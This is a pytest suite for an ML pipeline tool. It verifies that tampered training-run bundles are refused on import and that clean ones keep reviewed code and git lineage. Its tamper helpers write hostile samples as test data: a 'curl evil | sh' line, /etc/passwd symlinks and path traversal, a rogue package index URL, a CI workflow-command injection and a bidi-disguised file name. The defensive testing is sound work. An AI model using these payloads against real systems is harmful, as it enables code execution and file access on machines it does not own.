"""Run bundles: the PR stage trains with no credential and exports; the trusted stage checks and imports.

One real training in a PR-local store (module scope), exported once; every test imports a copy,
clean or made hostile, into a fresh team store and reads what arrived (or that nothing did).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from mlflow.tracking import MlflowClient

from flowops.bundle.check import facts_from_git
from flowops.promotion.binding import logged_model, refusal
from flowops.segmentation.experiment import load_experiment

from ..gitrepo import GitRepo
from .conftest import BIN, flowops, sqlite_store, tiny_spec

EXPERIMENT = "experiments/tiny.yaml"


class PrRepo(GitRepo):
    def __init__(self, path: Path, synth_root: Path):
        super().__init__(path, ["src", "MLproject", "conda.yaml"])
        (path / ".gitignore").write_text("/pr.db\n/mlartifacts/\n/run_id.txt\n")
        self.base = self.commit("code")
        self.git("checkout", "-q", "-b", "feature")
        (path / "experiments").mkdir()
        spec = tiny_spec(synth_root, experiment_name="bundled")
        (path / EXPERIMENT).write_text("# yaml-language-server: $schema=schema.json\n" + yaml.safe_dump(spec))
        self.head_sha = self.commit("PR: an experiment")


@pytest.fixture(scope="module")
def trained(tmp_path_factory, synth_root, sqlite_template):
    """(repo, bundle folder): the PR trained into its own store, no tracking credential in sight."""
    root = tmp_path_factory.mktemp("bundle")
    repo = PrRepo(root / "repo", synth_root)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW_", "GITHUB_"))} | {
        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
        "FLOWOPS_CACHE_DIR": str(root / "cache"),
        "MLFLOW_TRACKING_URI": sqlite_store(sqlite_template, repo.path / "pr.db"),
    }
    proc = flowops("train", EXPERIMENT, "--run-id-file", "run_id.txt", cwd=repo.path, env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    run_id = (repo.path / "run_id.txt").read_text().strip()
    proc = flowops("bundle", "export", "--run", run_id, "--out", str(root / "bundle"), cwd=repo.path, env=env)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(f"wrote {root / 'bundle'}: run {run_id} FINISHED")
    return repo, root / "bundle", MlflowClient(env["MLFLOW_TRACKING_URI"]).get_run(run_id)


@pytest.fixture
def team(tmp_path, sqlite_template) -> str:
    """The team's tracking store, with its schema (as a real server has)."""
    return sqlite_store(sqlite_template, tmp_path / "team.db")


def import_(
    repo: PrRepo,
    folder: Path,
    team: str,
    *extra: str,
    head: str | None = None,
    pr: str = "12",
    repo_path: Path | None = None,
):
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")} | {"MLFLOW_TRACKING_URI": team}
    args = ["bundle", "import", str(folder), "--experiment-file", EXPERIMENT, "--head-sha", head or repo.head_sha]
    where = str(repo_path or repo.path)
    return flowops(*args, "--pr", pr, "--repo", where, "--run-id-file", str(folder.parent / "id"), *extra, env=env)


def copy(bundle: Path, tmp_path: Path) -> Path:
    target = tmp_path / "bundle"
    shutil.copytree(bundle, target, symlinks=True)
    return target


def rewrite(folder: Path, change) -> None:
    record = json.loads((folder / "bundle.json").read_text())
    change(record)
    (folder / "bundle.json").write_text(json.dumps(record))


def test_a_clean_bundle_arrives_whole_with_lineage_from_git(trained, tmp_path, team):
    repo, bundle, original = trained
    proc = import_(repo, copy(bundle, tmp_path), team)
    assert proc.returncode == 0, proc.stderr
    client = MlflowClient(team)
    run = client.get_run((tmp_path / "id").read_text().strip())
    imported, code = proc.stdout.strip().splitlines()
    assert imported == f"imported run {run.info.run_id} (FINISHED) for {EXPERIMENT} at {repo.head_sha[:12]}, PR #12"
    assert re.fullmatch(r"model code: \d{2,} file\(s\) equal to git", code), code  # flowops' ~110 files
    assert run.info.status == "FINISHED" and run.info.run_id != original.info.run_id
    assert run.info.start_time == original.info.start_time
    assert run.data.params == original.data.params
    assert run.data.metrics == original.data.metrics
    history = [(m.step, m.value) for m in client.get_metric_history(run.info.run_id, "val_iou")]
    assert history == [
        (m.step, m.value) for m in MlflowClient(_store(repo)).get_metric_history(original.info.run_id, "val_iou")
    ]
    assert len(history) == 2
    tags = run.data.tags
    assert tags["flowops.pr_number"] == "12"  # from the event, not the bundle (which had none)
    assert tags["flowops.git_commit"] == repo.head_sha
    assert tags["flowops.code_tree"] == facts_from_git(repo.path, repo.head_sha, EXPERIMENT, "12").code_tree
    assert tags["flowops.imported"] == f"run bundle of PR #12 at {repo.head_sha}"
    assert tags["flowops.dataset_fingerprint"] == original.data.tags["flowops.dataset_fingerprint"]
    # The training's bookkeeping (its process, for the lease) travels in the bundle, and stays there.
    assert original.data.tags["flowops.trainer_pid"].isdigit() and "flowops.trainer_pid" not in tags
    assert {a.path for a in client.list_artifacts(run.info.run_id)} >= {"plots", "samples", "spec.yaml"}
    # The model is this run's own: promotion would bind it (same spec, same clean code tree).
    model_id = logged_model(client, run)
    assert client.get_logged_model(model_id).source_run_id == run.info.run_id
    spec = load_experiment(repo.path / EXPERIMENT)
    assert refusal(client, run, spec, tags["flowops.code_tree"], same_code=True) is None


def _store(repo: PrRepo) -> str:
    return f"sqlite:///{repo.path / 'pr.db'}"


def _symlink(folder: Path) -> None:
    (folder / "artifacts" / "passwd").symlink_to("/etc/passwd")


def _dotdot(folder: Path) -> None:
    rewrite(folder, lambda r: r["files"].update({"artifacts/../../etc/cron.d/x": {"size": 1, "sha256": "0" * 64}}))


def _absolute(folder: Path) -> None:
    rewrite(folder, lambda r: r["files"].update({"/etc/passwd": {"size": 1, "sha256": "0" * 64}}))


def _empty_name(folder: Path) -> None:  # Hardening 3 item 17: was an IndexError, exit 2
    rewrite(folder, lambda r: r["files"].update({"": {"size": 1, "sha256": "0" * 64}}))


def _deep(folder: Path) -> None:  # Hardening 3 item 17: was a RecursionError, exit 2
    (folder / "bundle.json").write_text("[" * 100_000 + "]" * 100_000)


def _hard_link(folder: Path) -> None:  # Hardening 3 item 18: another name of a file outside the bundle
    outside = folder.parent / "secret.txt"
    outside.write_text("a file of the runner's, not of the run\n")
    os.link(outside, folder / "artifacts" / "secret.txt")
    data = outside.read_bytes()
    entry = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}  # listed right: only the link betrays it
    rewrite(folder, lambda r: r["files"].update({"artifacts/secret.txt": entry}))


def _unlisted(folder: Path) -> None:
    (folder / "artifacts" / "extra.txt").write_text("not in the record")


def _stray_top(folder: Path) -> None:
    (folder / ".bashrc").write_text("curl evil | sh")


def _changed_file(folder: Path) -> None:
    (folder / "artifacts" / "spec.yaml").write_text("epochs: 999\n")


def _forged_commit(folder: Path) -> None:
    rewrite(folder, lambda r: r["tags"].update({"flowops.git_commit": "1" * 40}))


def _forged_pr(folder: Path) -> None:
    rewrite(folder, lambda r: r["tags"].update({"flowops.pr_number": "99"}))


def _dirty(folder: Path) -> None:
    rewrite(folder, lambda r: r["tags"].update({"flowops.code_dirty": "true"}))


def _promoter_tag(folder: Path) -> None:
    rewrite(folder, lambda r: r["tags"].update({"flowops.applied_commit": "1" * 40}))


def _workflow_command(folder: Path) -> None:  # #29: the refusal printed it as a line of its own
    rewrite(folder, lambda r: r["tags"].update({"flowops.x\n::error title=CI::forged": "1"}))


def _other_params(folder: Path) -> None:
    rewrite(folder, lambda r: r["params"].update({"epochs": "7"}))


def _bad_schema(folder: Path) -> None:
    rewrite(folder, lambda r: r["metrics"][0].update({"step": -1}))


def _nan_metric(folder: Path) -> None:  # #32.18: it was imported
    rewrite(folder, lambda r: r["metrics"][0].update({"value": float("nan")}))


def _running(folder: Path) -> None:
    rewrite(folder, lambda r: r.update({"status": "RUNNING"}))


def _forged_metric(folder: Path) -> None:  # #30: the number reviewers read is not what the images make
    def change(record):
        for metric in record["metrics"]:
            if metric["key"] == "val_miou":
                metric["value"] = 0.99

    rewrite(folder, change)


def _added(folder: Path, rel: str, data: bytes, metrics: list[dict]) -> None:
    """`rel` added to the bundle and listed right, with `metrics` logged."""
    (folder / rel).parent.mkdir(parents=True, exist_ok=True)
    (folder / rel).write_bytes(data)
    entry = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    rewrite(folder, lambda r: (r["files"].update({rel: entry}), r["metrics"].extend(metrics)))


def _npz(**arrays) -> bytes:
    import io

    import numpy as np

    buffer = io.BytesIO()
    np.savez(buffer, **{k: np.asarray(v) for k, v in arrays.items()})
    return buffer.getvalue()


def _mse_logged_as_rmse(folder: Path) -> None:
    """#30: squared errors declared as RMSE evidence, but the run logged their mean (the MSE) as rmse."""
    data = _npz(ids=["a", "b", "c", "d"], rmse=[1.0, 4.0, 0.25, 0.0], **{"rmse.aggregate": "rmse"})
    _added(folder, "artifacts/evaluation/per_example.npz", data, [{"key": "rmse", "value": 1.3125, "step": 0,
                                                                  "timestamp": 1}])  # fmt: skip


def _forged_classes(folder: Path) -> None:  # review of #30: the matrices' class list is a claim too
    import numpy as np

    rel = "artifacts/evaluation/confusion.npz"
    with np.load(folder / rel, allow_pickle=False) as data:
        arrays = {k: data[k] for k in data.files}
    arrays["class_names"] = arrays["class_names"][::-1]  # the metrics' names now say other classes
    (folder / rel).unlink()
    _added(folder, rel, _npz(**arrays), [])


def _unknown_param(folder: Path) -> None:  # #32.18: it was logged
    rewrite(folder, lambda r: r["params"].update({"backdoor": "1"}))


def _long_tag(folder: Path) -> None:  # #32.18: on PostgreSQL it failed mid-import
    rewrite(folder, lambda r: r["tags"].update({"flowops.versions": "x" * 9000}))


def _long_param_key(folder: Path) -> None:  # #32.18: it left a FAILED run behind
    rewrite(folder, lambda r: r["params"].update({"k" * 300: "1"}))


def _bidi_name(folder: Path) -> None:  # #32.18: U+202E shows "model.txt" for a name ending in "txt.ledom"
    _added(folder, "artifacts/report/\u202etxt.exe", b"x", [])


def _nfd_twin(folder: Path) -> None:  # #32.18: two spellings of one name, two files
    _added(folder, "artifacts/caf\u00e9.txt", b"one", [])
    _added(folder, "artifacts/cafe\u0301.txt", b"two", [])


def _pickled_evidence(folder: Path) -> None:
    import io

    import numpy as np

    buffer = io.BytesIO()
    np.savez(buffer, ids=np.array([object()], dtype=object))
    _added(folder, "artifacts/evaluation/per_example.npz", buffer.getvalue(), [])


def _replaced(folder: Path, rel: str, data: bytes) -> None:
    """`rel` rewritten in the bundle and listed right (its size and sha256 in bundle.json)."""
    (folder / rel).write_bytes(data)
    entry = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    rewrite(folder, lambda r: r["files"].update({rel: entry}))


def _mlmodel(change) -> Any:
    """A tamper that edits model/MLmodel's python_function flavor with `change`."""

    def tamper(folder: Path) -> None:
        mlmodel = yaml.safe_load((folder / "model" / "MLmodel").read_text())
        change(mlmodel["flavors"]["python_function"])
        _replaced(folder, "model/MLmodel", yaml.safe_dump(mlmodel).encode())

    return tamper


def _index_url(folder: Path) -> None:  # #32.18: a model environment installing from elsewhere
    text = (folder / "model" / "requirements.txt").read_text()
    _replaced(folder, "model/requirements.txt", f"--index-url https://evil.example/simple\n{text}".encode())


HOSTILE = {
    "symlink": (_symlink, "artifacts/passwd: a symbolic link; a bundle holds plain files only", ()),
    "dotdot": (_dotdot, "files: 'artifacts/../../etc/cron.d/x': a path must stay under artifacts or model/", ()),
    "absolute": (_absolute, "files: '/etc/passwd': a path must stay under artifacts or model/", ()),
    "empty-name": (_empty_name, "files: '': a path must stay under artifacts or model/", ()),
    "deep": (_deep, "bundle.json: nested too deeply; not a run bundle's record", ()),
    "hard-link": (_hard_link, "artifacts/secret.txt: a hard link (2 names); a bundle holds files of its own only", ()),
    "unlisted": (_unlisted, "artifacts/extra.txt: in the bundle but not listed in bundle.json", ()),
    "stray": (_stray_top, ".bashrc: not part of a run bundle (bundle.json, artifacts, model/)", ()),
    "changed": (_changed_file, "artifacts/spec.yaml: size or sha256 differs from bundle.json", ()),
    "oversized": (None, "bytes, over the limit of 20000", ("--max-file-bytes", "20000")),
    "forged-commit": (
        _forged_commit,
        "tags.flowops.git_commit: '1111111111111111111111111111111111111111' differs",
        (),
    ),
    "forged-pr": (
        _forged_pr,
        "tags.flowops.pr_number: '99' differs from '12' (lineage comes from the import stage",
        (),
    ),
    "dirty": (_dirty, "tags.flowops.code_dirty: 'true' differs from 'false'", ()),
    "promoter-tag": (_promoter_tag, "tags.flowops.applied_commit: not a tag a training run writes", ()),
    "workflow-command": (
        _workflow_command,
        "tags.flowops.x : :error title=CI: :forged: not a tag a training run writes",
        (),
    ),
    "other-params": (_other_params, "params: they make spec sha256", ()),
    "schema": (_bad_schema, "bundle.json: metrics.0.step: Input should be greater than or equal to 0", ()),
    "nan-metric": (_nan_metric, "bundle.json: metrics.0.value: Input should be a finite number", ()),
    "running": (_running, "bundle.json: status: Input should be 'FINISHED' or 'FAILED'", ()),
    "forged-metric": (
        _forged_metric,
        "artifacts/evaluation/confusion.npz: val_miou: the matrices make 0.",  # the number follows
        (),
    ),
    "mse-as-rmse": (
        _mse_logged_as_rmse,
        "artifacts/evaluation/per_example.npz: rmse: the evidence makes 1.14564 (rmse of 4 examples), "
        "the run logged rmse 1.3125: the logged number must be its evidence's",
        (),
    ),
    "forged-classes": (_forged_classes, "artifacts/evaluation/confusion.npz: class_names: [", ()),
    "unknown-param": (_unknown_param, "bundle.json: params.backdoor: not a parameter the segmentation trainer", ()),
    "long-tag": (_long_tag, "bundle.json: tags.flowops.versions: String should have at most 8000 characters", ()),
    "long-param-key": (_long_param_key, "String should have at most 250 characters", ()),
    "bidi-name": (_bidi_name, "a control or formatting character (U+202E) in a file name", ()),
    "nfd-twin": (_nfd_twin, "are the same name in Unicode (NFC)", ()),
    "evil-loader": (
        _mlmodel(lambda f: f.update({"loader_module": "evilloader"})),
        "model/MLmodel: flavors.python_function.loader_module: 'evilloader' is not one of MLflow's flavors",
        (),
    ),
    "code-outside": (
        _mlmodel(lambda f: f.update({"code": "../../.."})),
        "model/MLmodel: flavors.python_function.code: '../../..' must be a path inside the model folder",
        (),
    ),
    "code-absolute": (
        _mlmodel(lambda f: f.update({"code": "/etc"})),
        "flavors.python_function.code: '/etc' must be a path inside the model folder",
        (),
    ),
    "artifact-outside": (
        _mlmodel(lambda f: f["artifacts"]["keras_model"].update({"path": "../../../../etc/hostname"})),
        "flavors.python_function.artifacts.keras_model.path: '../../../../etc/hostname' must be a path inside",
        (),
    ),
    "artifact-missing": (
        _mlmodel(lambda f: f["artifacts"]["keras_model"].update({"path": "artifacts/elsewhere.h5"})),
        "flavors.python_function.artifacts.keras_model.path: 'artifacts/elsewhere.h5' names no file the bundle",
        (),
    ),
    "index-url": (
        _index_url,
        "model/requirements.txt: '--index-url https://evil.example/simple' (entry 1): a model's requirements are "
        "package names and versions",
        (),
    ),
    "pickled-evidence": (
        _pickled_evidence,
        "artifacts/evaluation/per_example.npz: not a numpy .npz of plain arrays (ValueError: Object arrays",
        (),
    ),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_hostile_bundle_is_refused_and_nothing_is_imported(trained, tmp_path, team, case):
    repo, bundle, _ = trained
    tamper, message, extra = HOSTILE[case]
    folder = copy(bundle, tmp_path)
    if tamper:
        tamper(folder)
    proc = import_(repo, folder, team, *extra)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and message in lines[0], proc.stderr
    assert "Traceback" not in proc.stderr
    client = MlflowClient(team)
    experiment = client.get_experiment_by_name("bundled")
    assert experiment is None or client.search_runs([experiment.experiment_id]) == []
    assert not (tmp_path / "id").exists()


def test_a_bundle_for_another_commit_than_the_approved_one_is_refused(trained, tmp_path, team):
    """The PR stage trained the head; a maintainer approved the base: the lineage cannot be made to fit."""
    repo, bundle, _ = trained
    proc = import_(repo, copy(bundle, tmp_path), team, head=repo.base)
    assert proc.returncode == 1
    assert proc.stderr.strip() == f"{EXPERIMENT}: not found at {repo.base[:12]}"
    proc = import_(repo, copy(bundle, tmp_path / "x"), team, head="main~5")
    assert proc.returncode == 1 and "--head-sha main~5: not a commit" in proc.stderr


def test_the_import_stage_is_light(trained, tmp_path, team, monkeypatch):
    """The trusted stage runs on a hosted runner: checking and importing never loads TensorFlow."""
    from .test_light_commands import run_fresh

    repo, bundle, _ = trained
    monkeypatch.setenv("MLFLOW_TRACKING_URI", team)
    args = ["bundle", "import", str(copy(bundle, tmp_path)), "--experiment-file", EXPERIMENT]
    code, heavy, out = run_fresh(repo.path, tmp_path, *args, "--head-sha", repo.head_sha, "--pr", "3")
    assert code == 0, out
    assert "tensorflow" not in heavy and "flowops.training" not in heavy, heavy


def test_parallel_imports_into_a_new_experiment_all_land(team):
    """Matrix siblings import at once: creating the same experiment twice must not fail either."""
    import threading

    from flowops.tracking import ensure_experiment

    uri = team  # the schema exists, as on a real server
    found: dict[str, list[str]] = {}
    errors: list[BaseException] = []
    start = threading.Barrier(6)

    def create(name: str) -> None:
        start.wait()
        try:
            found.setdefault(name, []).append(ensure_experiment(name, uri))
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=create, args=(f"exp-{i % 2}",)) for i in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert {name: len(set(ids)) for name, ids in found.items()} == {"exp-0": 1, "exp-1": 1}


def test_a_cancelled_import_ends_its_run_failed(trained, tmp_path, team):
    """GitHub cancels a job with SIGTERM: a run the import had begun must not stay RUNNING."""
    import hashlib
    import signal
    import subprocess
    import time

    repo, bundle, _ = trained
    folder = copy(bundle, tmp_path)
    many = folder / "artifacts" / "many"
    many.mkdir()
    listed = {}
    for i in range(6000):  # enough files that the copy into the store takes a while
        data = f"row {i}\n".encode()
        (many / f"{i}.txt").write_bytes(data)
        listed[f"artifacts/many/{i}.txt"] = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    rewrite(folder, lambda r: r["files"].update(listed))
    client = MlflowClient(team)
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")} | {"MLFLOW_TRACKING_URI": team}
    args = ["bundle", "import", str(folder), "--experiment-file", EXPERIMENT, "--head-sha", repo.head_sha, "--pr", "4"]
    proc = subprocess.Popen(
        [str(BIN / "flowops"), *args, "--repo", str(repo.path)], env=env, stderr=subprocess.PIPE, text=True
    )
    run = None
    deadline = time.monotonic() + 120
    while run is None and time.monotonic() < deadline and proc.poll() is None:
        experiment = client.get_experiment_by_name("bundled")
        found = client.search_runs([experiment.experiment_id]) if experiment else []
        run = found[0] if found and found[0].info.status == "RUNNING" else None
        time.sleep(0.01)
    assert run is not None, "the import finished before it could be cancelled"
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert (proc.returncode, err.strip().splitlines()[-1:]) == (130, ["interrupted"]), err
    final = client.get_run(run.info.run_id)
    assert final.info.status == "FAILED"
    assert final.data.tags["flowops.failure"] == "import of the run bundle cancelled by SIGTERM"


class TeamClone:
    """A clone of the PR repository that the team merges into: main gets a policy, the PR branch gets
    commits X (which changes .github/) and Y (which reverts X), and is merged with --no-ff."""

    POLICY: ClassVar[dict] = {
        "model_name": "bundled-model",
        "ship_hand_logged_runs": False,  # a team's store: only imported runs ship
        "targets": {"production": {"thresholds": [{"metric": "val_iou", "min": 0.0}]}},
    }

    def __init__(self, repo: PrRepo, path: Path):
        import subprocess

        subprocess.run(["git", "clone", "-q", str(repo.path), str(path)], check=True, capture_output=True)
        self.path = path
        self.git("checkout", "-q", "-B", "main", repo.base)
        (path / "registry_policy.yaml").write_text(yaml.safe_dump(self.POLICY, sort_keys=False))
        self.commit("policy")
        self.git("checkout", "-q", "-B", "feature", "origin/feature")
        action = path / ".github" / "actions" / "setup-flowops" / "action.yml"
        action.parent.mkdir(parents=True)
        action.write_text("runs: {using: composite, steps: [{shell: bash, run: echo patched the bundle}]}\n")
        self.x = self.commit("X: the job's setup, patched")
        shutil.rmtree(path / ".github")
        self.y = self.commit("Y: reverted")

    def git(self, *args: str) -> str:
        import subprocess

        ident = ["-c", "user.name=t", "-c", "user.email=t@example.invalid"]
        return subprocess.run(
            ["git", *ident, *args], cwd=self.path, capture_output=True, text=True, check=True
        ).stdout.strip()

    def commit(self, message: str) -> str:
        self.git("add", "-A")
        self.git("commit", "-qm", message)
        return self.git("rev-parse", "HEAD")

    def merge(self) -> tuple[str, str]:
        self.git("checkout", "-q", "main")
        before = self.git("rev-parse", "HEAD")
        self.git("merge", "-q", "--no-ff", "feature", "-m", "Merge pull request #12")
        return before, self.git("rev-parse", "HEAD")


def _promote(clone: TeamClone, team: str, git_range: str):
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW_", "GITHUB_"))}
    return flowops(
        "promote", "--git-range", git_range, "--repo", str(clone.path), "--tracking-uri", team, cwd=clone.path, env=env
    )


def _no_lineage(folder: Path) -> Path:
    """The bundle as a PR stage at another commit writes it: the lineage is the import's to set."""
    rewrite(folder, lambda r: r["tags"].pop("flowops.git_commit", None))
    return folder


def test_the_merged_code_ships_and_nothing_later_changes_what_a_merge_bound(trained, tmp_path, team):
    """#29 from outside: a run trained at an intermediate commit (X changed the job's setup, Y reverted it)
    is never shipped; the run imported at the final head is; a re-import, a hand-logged run and a
    docs-only push afterwards move nothing."""
    repo, bundle, _ = trained
    clone = TeamClone(repo, tmp_path / "team-repo")
    client = MlflowClient(team)

    proc = import_(repo, _no_lineage(copy(bundle, tmp_path / "x")), team, head=clone.x, repo_path=clone.path)
    assert proc.returncode == 0, proc.stderr
    at_x = (tmp_path / "x" / "id").read_text().strip()
    before, merge = clone.merge()
    proc = _promote(clone, team, f"{before}..{merge}")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert proc.stderr.strip().startswith(f"{EXPERIMENT}: no run qualifies: run {at_x[:8]}: imported at {clone.x[:12]}")
    assert "first difference: .github/actions/setup-flowops/action.yml" in proc.stderr
    assert "the merged code was never trained; to ship it, open a PR that touches this experiment file" in proc.stderr
    assert client.search_model_versions("name = 'bundled-model'") == []

    # the final head is imported (on GitHub: its training, or the label retrain): that run ships
    proc = import_(repo, _no_lineage(copy(bundle, tmp_path / "y")), team, head=clone.y, repo_path=clone.path)
    assert proc.returncode == 0, proc.stderr
    at_y = (tmp_path / "y" / "id").read_text().strip()
    proc = _promote(clone, team, f"{before}..{merge}")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"chosen: the earliest import of the merged code (run bundle of PR #12 at {clone.y})" in proc.stdout
    production = client.get_model_version_by_alias("bundled-model", "production")
    assert production.run_id == at_y

    # later: the same head imported again, and a run logged by hand with the same parameters and a
    # model of its own; then a docs-only push. The old merge still binds the same run.
    proc = import_(repo, _no_lineage(copy(bundle, tmp_path / "again")), team, head=clone.y, repo_path=clone.path)
    assert proc.returncode == 0, proc.stderr
    again = (tmp_path / "again" / "id").read_text().strip()
    by_hand = _hand_logged_copy(client, client.get_run(at_y))
    (clone.path / "NOTES.md").write_text("docs only\n")
    docs = clone.commit("docs")
    proc = _promote(clone, team, f"{merge}..{docs}")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert client.get_model_version_by_alias("bundled-model", "production").version == production.version
    assert {v.run_id for v in client.search_model_versions("name = 'bundled-model'")} == {at_y}
    assert again != at_y and by_hand != at_y
    proc = flowops("status", "--repo", str(clone.path), "--tracking-uri", team, cwd=clone.path)
    assert proc.returncode == 0 and "drift" not in proc.stdout, proc.stdout + proc.stderr


def _hand_logged_copy(client: MlflowClient, run) -> str:
    """A run logged with the trainer's credential but not by the import: same parameters and claims,
    a model of its own, better metrics, a later start."""
    from mlflow.entities import LoggedModelOutput, Metric, Param

    tags = {k: v for k, v in run.data.tags.items() if not k.startswith(("flowops.imported", "flowops.train_tree"))}
    new = client.create_run(run.info.experiment_id, tags=tags, run_name=run.info.run_name)
    run_id = new.info.run_id
    client.log_batch(
        run_id,
        params=[Param(k, v) for k, v in run.data.params.items()],
        metrics=[Metric(k, min(1.0, v + 0.5), 0, 0) for k, v in run.data.metrics.items()],
    )
    model = client.create_logged_model(run.info.experiment_id, name="model", source_run_id=run_id)
    client.log_outputs(run_id, [LoggedModelOutput(model.model_id, 0)])
    client.set_terminated(run_id, "FINISHED")
    return run_id


def _set_file(folder: Path, rel: str, content: bytes) -> None:
    """Write a file into the bundle and list it in bundle.json, as a PR stage that means it would."""
    (folder / rel).parent.mkdir(parents=True, exist_ok=True)
    (folder / rel).write_bytes(content)
    entry = {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    rewrite(folder, lambda r: r["files"].update({rel: entry}))


def _imported_model(client: MlflowClient, run_id: str, tmp_path: Path) -> Path:
    import mlflow.artifacts

    location = client.get_logged_model(logged_model(client, client.get_run(run_id))).artifact_location
    return Path(mlflow.artifacts.download_artifacts(artifact_uri=location, dst_path=str(tmp_path / "download")))


def test_the_models_code_is_the_reviewed_code(trained, tmp_path, team):
    """#29: a patched file under model/code/ (the code `models:/...` runs when loaded) is replaced by the
    git blob of the approved commit; a compiled cache is dropped; the digest covers what was imported."""
    from flowops.hashing import MODEL_DIGEST_TAG, model_digest

    repo, bundle, _ = trained
    folder = copy(bundle, tmp_path)
    pyfunc = "model/code/flowops/pyfunc.py"
    reviewed = (repo.path / "src" / "flowops" / "pyfunc.py").read_bytes()
    assert (folder / pyfunc).read_bytes() == reviewed
    _set_file(folder, pyfunc, reviewed + b"\nimport os; os.system('echo patched')\n")
    _set_file(folder, "model/code/flowops/__pycache__/pyfunc.cpython-311.pyc", b"\x00unchecked-hash pyc")
    proc = import_(repo, folder, team)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.strip().splitlines()
    assert lines[0].startswith("imported run ")
    assert lines[1].endswith(f"1 replaced by the reviewed blob (first: {pyfunc}), 1 compiled cache file(s) dropped"), (
        lines
    )
    client = MlflowClient(team)
    run_id = (tmp_path / "id").read_text().strip()
    model = _imported_model(client, run_id, tmp_path)
    assert (model / "code" / "flowops" / "pyfunc.py").read_bytes() == reviewed
    assert not (model / "code" / "flowops" / "__pycache__").exists()
    assert client.get_run(run_id).data.tags[MODEL_DIGEST_TAG] == model_digest(model)


def test_a_model_code_file_the_commit_does_not_have_refuses_the_bundle(trained, tmp_path, team):
    repo, bundle, _ = trained
    folder = copy(bundle, tmp_path)
    _set_file(folder, "model/code/flowops/sitecustomize.py", b"import os\n")
    proc = import_(repo, folder, team)
    assert proc.returncode == 1
    assert proc.stderr.strip() == (
        f"{folder}: model/code/flowops/sitecustomize.py: not a file of the training code at {repo.head_sha[:12]} "
        "(src, MLproject, conda.yaml); a model's code must be the reviewed code"
    )
    experiment = MlflowClient(team).get_experiment_by_name("bundled")
    assert experiment is None or MlflowClient(team).search_runs([experiment.experiment_id]) == []
